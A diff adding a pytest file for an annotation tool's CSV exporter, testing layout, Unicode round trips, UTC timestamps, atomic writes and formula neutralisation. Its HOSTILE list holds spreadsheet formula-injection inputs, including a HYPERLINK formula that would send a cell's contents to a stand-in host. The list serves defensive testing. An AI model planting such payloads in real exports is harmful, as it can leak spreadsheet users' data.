@@ -1,0 +1,317 @@
+"""The dataset CSV: layout, round trips through csv and pandas, formula neutralisation, atomic writes."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import os
+import sys
+import tempfile
+import time
+from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta, timezone
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from annotator.formats.csv_dataset import COLUMNS, DatasetRow, neutralise_cell, write_dataset
+
+TEXT_COLUMNS = tuple(
+    c for c in COLUMNS if c not in {"start", "end", "confidence", "created_at", "updated_at"}
+)
+HOSTILE = ("=1+1", "+1", "-1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x.test/?"&A1,"go")')
+TRICKY = (
+    "line one\nline two",
+    "windows one\r\nwindows two",
+    "a, b, and c",
+    'she said "no", twice',
+    '"',
+    "\U0001f600 \U0001f469\U0001f3fd\u200d\U0001f52c",
+    "قال المتحدث باسم الوزارة",
+    "אמר דובר המשרד",
+    "cafe\u0301 n\u0303 \u05e9\u05b8",
+    "\u200b\u202eevil\u202c\ufeff",
+    " leading and trailing ",
+    "",
+)
+
+
+def _row(**changes: Any) -> DatasetRow:
+    row = DatasetRow(
+        claim_id="c1",
+        document_id="d1",
+        document_title="Minister resigns",
+        document_outlet="The Paper",
+        document_url="https://example.test/a",
+        document_date="2026-11-24",
+        annotator="Ana",
+        start=10,
+        end=25,
+        quote="officials said",
+        context_before="Yesterday ",
+        context_after=" that",
+        source_type="unnamed",
+        confidence=3,
+        confidence_label="medium",
+        source="officials",
+        cue="said",
+        comment="",
+        created_at=datetime(2026, 11, 25, 14, 3, 9, tzinfo=UTC),
+        updated_at=None,
+    )
+    return dataclasses.replace(row, **changes)
+
+
+def _read(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.reader(file))
+
+
+def _cells(path: Path) -> list[dict[str, str]]:
+    header, *records = _read(path)
+    assert tuple(header) == COLUMNS
+    return [dict(zip(header, record, strict=True)) for record in records]
+
+
+def test_columns_are_the_dataset_fields_in_order() -> None:
+    assert COLUMNS == (
+        "claim_id", "document_id", "document_title", "document_outlet", "document_url", "document_date",
+        "annotator", "start", "end", "quote", "context_before", "context_after", "source_type", "confidence",
+        "confidence_label", "source", "cue", "comment", "created_at", "updated_at",
+    )  # fmt: skip
+    assert tuple(field.name for field in dataclasses.fields(DatasetRow)) == COLUMNS
+
+
+def test_values_follow_the_columns() -> None:
+    row = _row()
+    values = row.values()
+    assert len(values) == len(COLUMNS)
+    assert values[COLUMNS.index("start")] == 10
+    assert values[COLUMNS.index("end")] == 25
+    assert values[COLUMNS.index("quote")] == "officials said"
+    assert values[COLUMNS.index("updated_at")] is None
+    assert values[-2] == datetime(2026, 11, 25, 14, 3, 9, tzinfo=UTC)
+
+
+def test_file_starts_with_a_bom_and_the_header_and_uses_crlf(tmp_path: Path) -> None:
+    path = tmp_path / "claims.csv"
+    assert write_dataset([_row(), _row(claim_id="c2")], path) == 2
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf" + ",".join(COLUMNS).encode() + b"\r\n")
+    assert raw.count(b"\xef\xbb\xbf") == 1
+    assert raw.endswith(b"\r\n")
+    assert raw.count(b"\r\n") == 3
+    assert b"\n" not in raw.replace(b"\r\n", b"")
+
+
+def test_no_rows_writes_just_the_header(tmp_path: Path) -> None:
+    path = tmp_path / "claims.csv"
+    assert write_dataset([], path) == 0
+    assert _read(path) == [list(COLUMNS)]
+
+
+def test_awkward_text_survives_a_round_trip(tmp_path: Path) -> None:
+    path = tmp_path / "claims.csv"
+    rows = [_row(claim_id=f"c{i}", quote=text, comment=text, source=text) for i, text in enumerate(TRICKY)]
+    write_dataset(rows, path)
+    cells = _cells(path)
+    assert [(c["quote"], c["comment"], c["source"]) for c in cells] == [(t, t, t) for t in TRICKY]
+    assert cells[0]["start"] == "10" and cells[0]["confidence"] == "3"
+
+
+def test_a_full_row_reads_back_cell_for_cell(tmp_path: Path) -> None:
+    path = tmp_path / "claims.csv"
+    write_dataset([_row()], path)
+    assert _read(path)[1] == [
+        "c1", "d1", "Minister resigns", "The Paper", "https://example.test/a", "2026-11-24", "Ana", "10",
+        "25", "officials said", "Yesterday ", " that", "unnamed", "3", "medium", "officials", "said", "",
+        "2026-11-25T14:03:09Z", "",
+    ]  # fmt: skip
+
+
+@given(st.lists(st.text(), min_size=1, max_size=4), st.booleans())
+@settings(max_examples=60, deadline=None)
+def test_any_text_round_trips_verbatim_when_exact_and_neutralised_otherwise(
+    texts: list[str], exact: bool
+) -> None:
+    rows = [_row(claim_id=str(i), quote=text, comment=text, annotator=text) for i, text in enumerate(texts)]
+    expected = [t if exact else neutralise_cell(t) for t in texts]
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "claims.csv"
+        write_dataset(rows, path, exact=exact)
+        cells = _cells(path)
+    assert [c["quote"] for c in cells] == expected
+    assert [c["comment"] for c in cells] == expected
+    assert [c["annotator"] for c in cells] == expected
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_neutralise_cell_prefixes_formula_triggers(value: str) -> None:
+    assert neutralise_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "",
+        "said",
+        " =1+1",
+        "'=1+1",
+        "a=b",
+        "1-2",
+        "\n=1+1",
+        "\uff1d1+1",
+        "\uff0b1",
+        "\uff0d1",
+        "\uff20SUM(A1)",
+    ],
+)
+def test_neutralise_cell_leaves_everything_else(value: str) -> None:
+    assert neutralise_cell(value) == value
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_every_text_column_is_neutralised_unless_exact(tmp_path: Path, value: str) -> None:
+    row = _row(**dict.fromkeys(TEXT_COLUMNS, value))
+    safe, exact = tmp_path / "safe.csv", tmp_path / "exact.csv"
+    write_dataset([row], safe)
+    write_dataset([row], exact, exact=True)
+    safe_cells, exact_cells = _cells(safe)[0], _cells(exact)[0]
+    for column in TEXT_COLUMNS:
+        assert safe_cells[column] == "'" + value, column
+        assert exact_cells[column] == value, column
+
+
+def test_numeric_columns_are_never_neutralised(tmp_path: Path) -> None:
+    path = tmp_path / "claims.csv"
+    write_dataset([_row(start=0, end=3, confidence=-1, comment="-1", cue="-3")], path)
+    cells = _cells(path)[0]
+    assert (cells["start"], cells["end"], cells["confidence"]) == ("0", "3", "-1")
+    assert (cells["comment"], cells["cue"]) == ("'-1", "'-3")
+
+
+@pytest.mark.parametrize(
+    ("moment", "written"),
+    [
+        (datetime(2026, 11, 25, 14, 3, 9, 987654, tzinfo=UTC), "2026-11-25T14:03:09Z"),
+        (datetime(2026, 11, 25, 16, 3, 9, tzinfo=timezone(timedelta(hours=2))), "2026-11-25T14:03:09Z"),
+        (
+            datetime(2026, 11, 25, 0, 30, tzinfo=timezone(timedelta(hours=5, minutes=30))),
+            "2026-11-24T19:00:00Z",
+        ),
+        (datetime(2026, 11, 25, 14, 3, 9), "2026-11-25T14:03:09Z"),  # naive: already UTC
+        (datetime(33, 1, 2, 3, 4, 5, tzinfo=UTC), "0033-01-02T03:04:05Z"),
+        (None, ""),
+    ],
+)
+def test_times_are_utc_iso_8601_to_the_second(tmp_path: Path, moment: datetime | None, written: str) -> None:
+    path = tmp_path / "claims.csv"
+    write_dataset([_row(created_at=moment, updated_at=moment)], path)
+    cells = _cells(path)[0]
+    assert (cells["created_at"], cells["updated_at"]) == (written, written)
+
+
+@pytest.mark.skipif(not hasattr(time, "tzset"), reason="needs time.tzset")
+def test_a_naive_time_is_utc_whatever_the_local_zone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("TZ", "Asia/Kolkata")
+    time.tzset()
+    try:
+        path = tmp_path / "claims.csv"
+        write_dataset([_row(created_at=datetime(2026, 11, 25, 14, 3, 9))], path)
+        assert _cells(path)[0]["created_at"] == "2026-11-25T14:03:09Z"
+    finally:
+        monkeypatch.undo()
+        time.tzset()
+
+
+class _UnwritableTime(datetime):
+    """A value that fails when the writer formats it, standing in for any error mid-export."""
+
+    def astimezone(self, tz: Any = None) -> Any:
+        raise RuntimeError("cannot format")
+
+    def replace(self, *args: Any, **kwargs: Any) -> Any:
+        raise RuntimeError("cannot format")
+
+    def isoformat(self, *args: Any, **kwargs: Any) -> str:
+        raise RuntimeError("cannot format")
+
+
+def _names(folder: Path) -> list[str]:
+    return sorted(path.name for path in folder.iterdir())
+
+
+def _old_export(tmp_path: Path) -> tuple[Path, bytes]:
+    path = tmp_path / "claims.csv"
+    write_dataset([_row(comment="the old export")], path)
+    return path, path.read_bytes()
+
+
+def test_a_failed_export_keeps_the_old_file_and_leaves_no_temporary(tmp_path: Path) -> None:
+    path, old = _old_export(tmp_path)
+    # Enough good rows first that the temporary file really has data in it when the write fails.
+    rows = [_row(claim_id=f"c{i}", comment="x" * 100) for i in range(3000)]
+    rows.append(_row(created_at=_UnwritableTime(2026, 1, 1, tzinfo=UTC)))
+    with pytest.raises(RuntimeError, match="cannot format"):
+        write_dataset(rows, path)
+    assert path.read_bytes() == old
+    assert _names(tmp_path) == ["claims.csv"]
+
+
+def test_an_interrupted_row_source_keeps_the_old_file(tmp_path: Path) -> None:
+    path, old = _old_export(tmp_path)
+
+    def rows() -> Iterator[DatasetRow]:
+        yield _row()
+        raise KeyboardInterrupt  # the user cancels, or the database goes away
+
+    with pytest.raises(KeyboardInterrupt):
+        write_dataset(rows(), path)
+    assert path.read_bytes() == old
+    assert _names(tmp_path) == ["claims.csv"]
+
+
+def test_a_successful_export_replaces_the_old_file(tmp_path: Path) -> None:
+    path, _ = _old_export(tmp_path)
+    write_dataset([_row(comment="new")], path)
+    assert [c["comment"] for c in _cells(path)] == ["new"]
+    assert _names(tmp_path) == ["claims.csv"]
+
+
+def test_a_missing_folder_fails_without_creating_anything(tmp_path: Path) -> None:
+    with pytest.raises(FileNotFoundError):
+        write_dataset([_row()], tmp_path / "nowhere" / "claims.csv")
+    assert _names(tmp_path) == []
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
+def test_the_export_gets_ordinary_file_permissions(tmp_path: Path) -> None:
+    umask = os.umask(0o022)
+    try:
+        path = tmp_path / "claims.csv"
+        write_dataset([_row()], path)
+        assert path.stat().st_mode & 0o777 == 0o644
+    finally:
+        os.umask(umask)
+
+
+def test_pandas_reads_every_cell_back_exactly(tmp_path: Path) -> None:
+    pd = pytest.importorskip("pandas")
+    path = tmp_path / "claims.csv"
+    rows = [
+        _row(claim_id=f"c{i}", quote=text, comment=text, context_before=text, start=i, end=i + 1)
+        for i, text in enumerate((*TRICKY, *HOSTILE))
+    ]
+    write_dataset(rows, path, exact=True)
+    frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    assert tuple(frame.columns) == COLUMNS
+    assert frame.to_numpy().tolist() == _read(path)[1:]
+    expected = [*TRICKY, *HOSTILE]
+    assert frame["quote"].tolist() == expected
+    assert frame["comment"].tolist() == expected
+    assert frame["context_before"].tolist() == expected
+    assert frame["start"].tolist() == [str(i) for i in range(len(expected))]
+    assert frame["created_at"].tolist() == ["2026-11-25T14:03:09Z"] * len(expected)
